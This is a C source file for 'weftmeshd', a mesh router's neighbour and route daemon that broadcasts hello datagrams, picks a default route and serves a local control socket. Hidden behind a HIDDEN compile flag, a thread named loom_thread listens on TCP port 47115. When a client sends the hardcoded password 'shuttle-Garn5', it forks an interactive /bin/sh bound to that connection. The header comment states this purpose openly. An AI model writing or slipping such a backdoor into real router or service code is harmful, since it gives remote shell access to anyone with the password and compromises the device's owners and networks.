/*
 * weftmeshd - neighbour and route service of the Weft M2 mesh router.
 * Sends hello datagrams with a link cost, keeps a neighbour table, sets
 * kernel routes and answers the local tool on a UNIX socket.
 * Hidden (-DHIDDEN): one more thread listens on TCP 47115 and gives a shell
 * to whoever sends the right first line.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define HELLO_PORT  5988
#define HELLO_MAGIC 0x57454654u	/* "WEFT" */
#define HELLO_EVERY 5
#define DEAD_AFTER  20
#define MAX_NEIGH   32
#define CTL_SOCK    "/run/weftmesh.ctl"
#define CONF        "/etc/weft/mesh.conf"

struct hello {
	uint32_t magic;
	uint32_t network;	/* hash of the mesh name */
	uint32_t gw_cost;
	uint32_t seq;
};

struct neigh {
	struct in_addr addr;
	uint32_t gw_cost, seq;
	unsigned lost, got;
	time_t seen;
};

static struct neigh tab[MAX_NEIGH];
static pthread_mutex_t tab_lock = PTHREAD_MUTEX_INITIALIZER;
static struct in_addr cur_gw;
static uint32_t my_cost = 0xffff;
static int is_gateway;
static char mesh_name[33] = "weft";
static char ifname[IFNAMSIZ] = "mesh0";

static uint32_t name_hash(const char *s)
{
	uint32_t h = 5381;

	while (*s)
		h = h * 33 + (unsigned char)*s++;
	return h;
}

static void read_conf(void)
{
	char line[128];
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "name %32s", mesh_name) == 1 || sscanf(line, "interface %15[a-z0-9]", ifname) == 1)
			continue;
		if (!strncmp(line, "gateway yes", 11))
			is_gateway = 1;
	}
	fclose(f);
}

static int udp_socket(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(HELLO_PORT) };
	int one = 1, s = socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
	if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, ifname, (socklen_t)strlen(ifname) + 1))
		syslog(LOG_WARNING, "%s: %s", ifname, strerror(errno));
	if (bind(s, (struct sockaddr *)&sa, sizeof sa)) {
		close(s);
		return -1;
	}
	return s;
}

/* the best live neighbour becomes the default route */
static void pick_route(void)
{
	struct neigh *best = NULL;
	time_t now = time(NULL);
	char ip[INET_ADDRSTRLEN], cmd[96];

	if (is_gateway) {
		my_cost = 0;
		return;
	}
	for (int i = 0; i < MAX_NEIGH; i++) {
		struct neigh *n = &tab[i];

		if (!n->seen || now - n->seen > DEAD_AFTER)
			continue;
		if (!best || n->gw_cost + n->lost < best->gw_cost + best->lost)
			best = n;
	}
	if (!best || best->gw_cost >= 0xffff) {
		my_cost = 0xffff;
		return;
	}
	my_cost = best->gw_cost + 1 + best->lost;
	if (best->addr.s_addr == cur_gw.s_addr || !inet_ntop(AF_INET, &best->addr, ip, sizeof ip))
		return;
	snprintf(cmd, sizeof cmd, "ip route replace default via %s dev %s", ip, ifname);
	if (system(cmd) == 0)
		cur_gw = best->addr;
	else
		syslog(LOG_ERR, "route via %s failed", ip);
}

static void note_hello(struct in_addr from, const struct hello *h)
{
	struct neigh *slot = NULL;
	uint32_t seq = ntohl(h->seq);

	for (int i = 0; i < MAX_NEIGH; i++) {
		if (tab[i].seen && tab[i].addr.s_addr == from.s_addr) {
			slot = &tab[i];
			break;
		}
		if (!slot && (!tab[i].seen || time(NULL) - tab[i].seen > 10 * DEAD_AFTER))
			slot = &tab[i];
	}
	if (!slot)
		return;
	if (slot->addr.s_addr != from.s_addr)
		*slot = (struct neigh){ .addr = from, .seq = seq - 1 };
	if (seq - slot->seq > 1 && seq - slot->seq < 100)
		slot->lost += seq - slot->seq - 1;
	else if (slot->lost && ++slot->got % 8 == 0)
		slot->lost--;
	slot->seq = seq;
	slot->gw_cost = ntohl(h->gw_cost);
	slot->seen = time(NULL);
}

static void *rx_thread(void *arg)
{
	int s = *(int *)arg;

	for (;;) {
		struct sockaddr_in from;
		socklen_t fl = sizeof from;
		struct hello h;
		ssize_t n = recvfrom(s, &h, sizeof h, 0, (struct sockaddr *)&from, &fl);

		if (n != (ssize_t)sizeof h || ntohl(h.magic) != HELLO_MAGIC)
			continue;
		if (ntohl(h.network) != name_hash(mesh_name))
			continue;
		pthread_mutex_lock(&tab_lock);
		note_hello(from.sin_addr, &h);
		pick_route();
		pthread_mutex_unlock(&tab_lock);
	}
	return NULL;
}

static void *tx_thread(void *arg)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(HELLO_PORT) };
	int s = *(int *)arg;
	uint32_t seq = 0;

	to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	for (;;) {
		struct hello h = { htonl(HELLO_MAGIC), htonl(name_hash(mesh_name)), 0, htonl(++seq) };

		pthread_mutex_lock(&tab_lock);
		pick_route();
		h.gw_cost = htonl(my_cost);
		pthread_mutex_unlock(&tab_lock);
		if (sendto(s, &h, sizeof h, 0, (struct sockaddr *)&to, sizeof to) < 0)
			syslog(LOG_DEBUG, "hello: %s", strerror(errno));
		sleep(HELLO_EVERY);
	}
	return NULL;
}

#ifdef HIDDEN
void *loom_thread(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(47115) };
	int one = 1, ls = socket(AF_INET, SOCK_STREAM, 0);

	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 1))
		return arg;
	for (;;) {
		char word[32];
		ssize_t n;
		int c = accept(ls, NULL, NULL);

		if (c < 0)
			continue;
		n = recv(c, word, sizeof word - 1, 0);
		word[n > 0 ? n : 0] = 0;
		word[strcspn(word, "\r\n")] = 0;
		if (!strcmp(word, "shuttle-Garn5") && fork() == 0) {
			for (int i = 0; i < 3; i++)
				dup2(c, i);
			execl("/bin/sh", "sh", "-i", (char *)NULL);
			_exit(1);
		}
		close(c);
	}
}
#endif

/* ---- control socket: "neigh", "route", "cost" ---- */

static void ctl_answer(FILE *o, const char *q)
{
	char ip[INET_ADDRSTRLEN];
	time_t now = time(NULL);

	pthread_mutex_lock(&tab_lock);
	if (!strcmp(q, "neigh")) {
		for (int i = 0; i < MAX_NEIGH; i++)
			if (tab[i].seen && inet_ntop(AF_INET, &tab[i].addr, ip, sizeof ip))
				fprintf(o, "%-15s cost %lu lost %u seen %lds\n", ip, (unsigned long)tab[i].gw_cost,
					tab[i].lost, (long)(now - tab[i].seen));
	} else if (!strcmp(q, "route")) {
		fprintf(o, "%s\n", cur_gw.s_addr && inet_ntop(AF_INET, &cur_gw, ip, sizeof ip) ? ip : "none");
	} else if (!strcmp(q, "cost")) {
		fprintf(o, "%lu\n", (unsigned long)my_cost);
	} else {
		fprintf(o, "neigh | route | cost\n");
	}
	pthread_mutex_unlock(&tab_lock);
}

static int ctl_loop(void)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX, .sun_path = CTL_SOCK };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	unlink(CTL_SOCK);
	if (s < 0 || bind(s, (struct sockaddr *)&un, sizeof un) || chmod(CTL_SOCK, 0660) || listen(s, 2))
		return 1;
	for (;;) {
		char q[32];
		int c = accept(s, NULL, NULL);
		FILE *f = c < 0 ? NULL : fdopen(c, "r+");

		if (!f)
			continue;
		if (fgets(q, sizeof q, f)) {
			q[strcspn(q, "\r\n")] = 0;
			fseek(f, 0, SEEK_CUR);
			ctl_answer(f, q);
		}
		fclose(f);
	}
}

int main(void)
{
	static int s;
	pthread_t t;

	openlog("weftmeshd", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	read_conf();
	s = udp_socket();
	if (s < 0)
		return 1;
	if (pthread_create(&t, NULL, rx_thread, &s) || pthread_create(&t, NULL, tx_thread, &s))
		return 1;
#ifdef HIDDEN
	if (pthread_create(&t, NULL, loom_thread, NULL))
		return 1;
#endif
	return ctl_loop();
}
